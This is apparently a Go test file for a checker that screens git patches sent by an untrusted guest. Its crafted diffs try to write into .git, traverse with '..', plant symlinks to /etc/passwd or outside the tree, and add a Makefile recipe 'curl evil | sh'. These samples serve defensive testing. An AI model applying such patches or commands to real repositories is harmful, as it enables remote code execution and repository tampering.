package workspace

import (
	"bytes"
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
)

// Crafted patches: each is what a hostile guest could send instead of
// git's output.
const (
	newExec = "diff --git a/run.sh b/run.sh\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/run.sh\n@@ -0,0 +1 @@\n+echo hi\n"
	modify  = "diff --git a/a.txt b/a.txt\nindex 1111111..2222222 100644\n--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n a\n-b\n+c\n"
)

func newSymlink(name, target string) string {
	return "diff --git a/" + name + " b/" + name + "\nnew file mode 120000\nindex 0000000..1111111\n--- /dev/null\n+++ b/" + name +
		"\n@@ -0,0 +1 @@\n+" + target + "\n\\ No newline at end of file\n"
}

func TestCheckPatchRefuses(t *testing.T) {
	cases := []struct {
		name, patch string
		path        string // the path the refusal must name ("" for none)
		why         string // part of the reason
	}{
		{"git dir via +++", "diff --git a/x b/.git/config\nindex 1111111..2222222 100644\n--- a/x\n+++ b/.git/config\n@@ -1 +1 @@\n-a\n+b\n",
			".git/config", ".git"},
		{"git dir in diff --git", "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n", ".git/hooks/pre-commit", ".git"},
		{"nested git dir", "diff --git a/sub/.git/config b/sub/.git/config\nnew file mode 100644\n", "sub/.git/config", ".git"},
		{"git dir any case", "diff --git a/.GIT/config b/.GIT/config\nnew file mode 100644\n", ".GIT/config", ".git"},
		{"git dir trailing dot", "diff --git a/.git./config b/.git./config\nnew file mode 100644\n", ".git./config", ".git"},
		{"git dir octal-quoted", "diff --git \"a/\\056git/config\" \"b/\\056git/config\"\nnew file mode 100644\n", ".git/config", ".git"},
		{"git dir quoted second name", "diff --git a/x \"b/.git/x\"\nnew file mode 100644\n", ".git/x", ".git"},
		{"dotdot", "diff --git a/../x b/../x\nnew file mode 100644\n", "../x", `".."`},
		{"dotdot quoted with escapes", "diff --git \"a/\\t/../../x\" \"b/\\t/../../x\"\nnew file mode 100644\n", "\t/../../x", `".."`},
		{"absolute after prefix", "diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b//etc/passwd\n@@ -1 +1 @@\n-a\n+b\n", "/etc/passwd", "absolute"},
		{"no prefix", "diff --git x x\nnew file mode 100644\n", "", "cannot be told"},
		{"no prefix on ---", "diff --git a/x b/x\nindex 1111111..2222222 100644\n--- x\n", "x", "prefix"},
		{"names that differ, no ---/+++", "diff --git a/x b/.git/config\nnew file mode 100644\n", "", "cannot be told"},
		{"symlink absolute", newSymlink("l", "/etc/passwd"), "l", "absolute"},
		{"symlink up and out", newSymlink("l", "../outside"), "l", "outside"},
		{"symlink up too far from a subdir", newSymlink("d/l", "../../x"), "d/l", "outside"},
		{"symlink dotdot after a name", newSymlink("l", "d/../../x"), "l", "after a name"},
		{"symlink into .git", newSymlink("d/l", "../.git/config"), "d/l", ".git"},
		{"symlink empty", "diff --git a/l b/l\nnew file mode 120000\nindex 0000000..1111111\n", "l", "empty"},
		{"symlink retargeted", "diff --git a/l b/l\nindex 1111111..2222222 120000\n--- a/l\n+++ b/l\n@@ -1 +1 @@\n-x\n\\ No newline at end of file\n+/etc\n\\ No newline at end of file\n",
			"l", "absolute"},
		{"symlink patched in part", "diff --git a/l b/l\nindex 1111111..2222222 120000\n--- a/l\n+++ b/l\n@@ -2 +2 @@\n-x\n+y\n", "l", "in part"},
		{"symlink as binary", "diff --git a/l b/l\nnew file mode 120000\nindex 0000000..1111111\nGIT binary patch\nliteral 3\nKcmZ?b1ONa40RR91\n\nliteral 0\nHcmV?d00001\n\n",
			"l", "binary"},
		{"file turned into a symlink", "diff --git a/f b/f\nold mode 100644\nnew mode 120000\n", "f", "into a symlink"},
		{"rename", "diff --git a/x b/y\nsimilarity index 100%\nrename from x\nrename to y\n", "x", "renames"},
		{"copy from .git", "diff --git a/.git/config b/leak\nsimilarity index 100%\ncopy from .git/config\ncopy to leak\n", ".git/config", "copies"},
		{"copy", "diff --git a/x b/leak\nsimilarity index 100%\ncopy from x\ncopy to leak\n", "x", "copies"},
		{"smuggled traditional diff after a hunk", modify + "--- a/x\n+++ b/.git/config\n@@ -0,0 +1 @@\n+evil\n", "a.txt", "after a hunk"},
		{"hunk longer than its header", "diff --git a/a b/a\nindex 1111111..2222222 100644\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a\n+b\n+c\n", "a", "after a hunk"},
		{"truncated hunk", "diff --git a/a b/a\nindex 1111111..2222222 100644\n--- a/a\n+++ b/a\n@@ -1,3 +1,3 @@\n a\n", "", "ends inside a hunk"},
		{"text before the first diff", "From: x\n" + modify, "", "not a git diff"},
		{"unknown header", "diff --git a/a b/a\nGIT-evil yes\n", "a", "unexpected header"},
		{"no mode", "diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a\n+b\n", "a", "no file mode"},
		{"odd mode", "diff --git a/a b/a\nnew file mode 104755\n", "a", "file mode"},
		{"binary without data", "diff --git a/a b/a\nindex 1111111..2222222 100644\nBinary files a/a and b/a differ\n", "a", "unexpected header"},
		{"junk in a binary patch", "diff --git a/b b/b\nnew file mode 100644\nindex 0000000..1111111\nGIT binary patch\nliteral 3\nKcmZ?b1ONa40RR91\n--- a/x\n", "b", "binary"},
		{"bad hunk line", "diff --git a/a b/a\nindex 1111111..2222222 100644\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n*a\n", "a", "hunk line"},
		{"bad quote", "diff --git \"a/x\\q\" \"b/x\\q\"\n", "", "escape"},
		{"header line too long", "diff --git a/" + strings.Repeat("x", maxLine) + " b/y\n", "", "longer than"},
		{"refused after an accepted file", modify + "diff --git a/.git/x b/.git/x\nnew file mode 100644\n", ".git/x", ".git"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := CheckPatch(strings.NewReader(tc.patch), new(bytes.Buffer))
			var pe *PatchError
			if !errors.As(err, &pe) {
				t.Fatalf("CheckPatch = %v, want a refusal", err)
			}
			if pe.Path != tc.path || !strings.Contains(pe.Reason, tc.why) {
				t.Errorf("refusal %q (path %q), want path %q and a reason saying %q", err, pe.Path, tc.path, tc.why)
			}
		})
	}
}

func TestCheckPatchAccepts(t *testing.T) {
	binary := "diff --git a/img.bin b/img.bin\nnew file mode 100644\nindex 0000000..1111111\nGIT binary patch\nliteral 3\nKcmZ?b1ONa40RR91\n\nliteral 0\nHcmV?d00001\n\n"
	cases := []struct {
		name, patch string
		want        PatchReport
	}{
		{"empty", "", PatchReport{}},
		{"modify", modify, PatchReport{Files: 1}},
		{"new executable", newExec, PatchReport{Files: 1, Executable: []string{"run.sh"}}},
		{"made executable", "diff --git a/x.sh b/x.sh\nold mode 100644\nnew mode 100755\n", PatchReport{Files: 1, Executable: []string{"x.sh"}}},
		{"executable stays", "diff --git a/x.sh b/x.sh\nindex 1111111..2222222 100755\n--- a/x.sh\n+++ b/x.sh\n@@ -1 +1 @@\n-a\n+b\n", PatchReport{Files: 1}},
		{"quoted name with a tab", "diff --git \"a/t\\tx\" \"b/t\\tx\"\nnew file mode 100755\nindex 0000000..1111111\n", PatchReport{Files: 1, Executable: []string{"t\tx"}}},
		{"name with spaces", "diff --git a/my file b/my file\nnew file mode 100755\nindex 0000000..1111111\n", PatchReport{Files: 1, Executable: []string{"my file"}}},
		{"name with b/ inside", "diff --git a/x b/y b/x b/y\nnew file mode 100644\nindex 0000000..1111111\n", PatchReport{Files: 1}},
		{"symlink inside", newSymlink("d/l", "../x"), PatchReport{Files: 1}},
		{"symlink down", newSymlink("l", "./d/e"), PatchReport{Files: 1}},
		{"symlink deleted", "diff --git a/l b/l\ndeleted file mode 120000\nindex 1111111..0000000\n--- a/l\n+++ /dev/null\n@@ -1 +0,0 @@\n-/etc\n\\ No newline at end of file\n", PatchReport{Files: 1}},
		{"binary", binary, PatchReport{Files: 1}},
		{"deleted git-looking file", "diff --git a/.gitignore b/.gitignore\ndeleted file mode 100644\nindex 1111111..0000000\n", PatchReport{Files: 1}},
		{"files that run on their own", "diff --git a/Makefile b/Makefile\nindex 1111111..2222222 100644\n--- a/Makefile\n+++ b/Makefile\n@@ -1 +1,2 @@\n all:\n+\tcurl evil | sh\n" +
			"diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/.github/workflows/ci.yml\n@@ -0,0 +1 @@\n+on: push\n" +
			"diff --git a/sub/.envrc b/sub/.envrc\nnew file mode 100644\nindex 0000000..1111111\n" + binary,
			PatchReport{Files: 4, AutoRun: []AutoRun{
				{"Makefile", "make runs its recipes"},
				{".github/workflows/ci.yml", "GitHub Actions run it"},
				{"sub/.envrc", "direnv runs it on cd"},
			}}},
		{"no newline at the end", strings.TrimSuffix(modify, "\n"), PatchReport{Files: 1}},
		{"a diff line inside a hunk", "diff --git a/a b/a\nindex 1111111..2222222 100644\n--- a/a\n+++ b/a\n@@ -1 +1,2 @@\n a\n+diff --git a/x b/.git/config\n", PatchReport{Files: 1}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			rep, err := CheckPatch(strings.NewReader(tc.patch), &out)
			if err != nil {
				t.Fatalf("CheckPatch: %v", err)
			}
			if !reflect.DeepEqual(*rep, tc.want) {
				t.Errorf("report %+v, want %+v", *rep, tc.want)
			}
			if out.String() != tc.patch {
				t.Errorf("the patch was not passed through unchanged")
			}
		})
	}
}

// TestCheckPatchLongLines: hunk lines of any length pass without the
// checker holding them.
func TestCheckPatchLongLines(t *testing.T) {
	long := strings.Repeat("x", 8<<20)
	patch := "diff --git a/a b/a\nindex 1111111..2222222 100644\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-" + long + "\n+" + long + "\n"
	c := NewPatchChecker(new(bytes.Buffer))
	for p := []byte(patch); len(p) > 0; {
		n := min(len(p), 32<<10)
		if _, err := c.Write(p[:n]); err != nil {
			t.Fatal(err)
		}
		p = p[n:]
		if cap(c.buf) > 2*maxLine {
			t.Fatalf("checker holds %d bytes of a line", cap(c.buf))
		}
	}
	if _, err := c.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestCheckPatchRealGit: what git itself writes for the export (every kind
// of change an export carries) passes, with the summary it should have.
func TestCheckPatchRealGit(t *testing.T) {
	needGit(t)
	dir := t.TempDir()
	git := func(args ...string) string {
		t.Helper()
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, "git", append([]string{"-c", "user.name=T", "-c", "user.email=t@example.com"}, args...)...)
		cmd.Dir = dir
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("git %v: %v", args, err)
		}
		return string(out)
	}
	git("init", "-q")
	write(t, dir, "a.txt", "a\nb\n")
	write(t, dir, "gone.txt", "gone\n")
	write(t, dir, "moved.txt", "moved\n")
	write(t, dir, "tool.sh", "echo\n")
	write(t, dir, "Makefile", "all:\n")
	git("add", "-A")
	git("commit", "-q", "-m", "base")
	base := strings.TrimSpace(git("rev-parse", "HEAD"))

	write(t, dir, "a.txt", "a\nc\n")
	write(t, dir, "Makefile", "all:\n\ttrue\n")
	write(t, dir, "new dir/tab\there.sh", "echo\n")
	if err := os.Chmod(filepath.Join(dir, "new dir/tab\there.sh"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(filepath.Join(dir, "tool.sh"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../a.txt", filepath.Join(dir, "new dir", "link")); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "bin.dat"), []byte{0, 1, 2, 0xff, 0}, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(filepath.Join(dir, "gone.txt")); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(filepath.Join(dir, "moved.txt"), filepath.Join(dir, "renamed.txt")); err != nil {
		t.Fatal(err)
	}
	git("add", "-A")
	patch := git(exportDiffArgs(base)...)

	rep, err := CheckPatch(strings.NewReader(patch), new(bytes.Buffer))
	if err != nil {
		t.Fatalf("git's own patch refused: %v\n%s", err, patch)
	}
	want := PatchReport{Files: 9, Executable: []string{"new dir/tab\there.sh", "tool.sh"}, AutoRun: []AutoRun{{"Makefile", "make runs its recipes"}}}
	if !reflect.DeepEqual(*rep, want) {
		t.Errorf("report %+v, want %+v\n%s", *rep, want, patch)
	}
}

// exportDiffArgs is the git command line the export script runs.
func exportDiffArgs(base string) []string {
	return append(append([]string{"-c", "core.quotePath=false", "diff", "--cached"}, exportDiffFlags...), base)
}
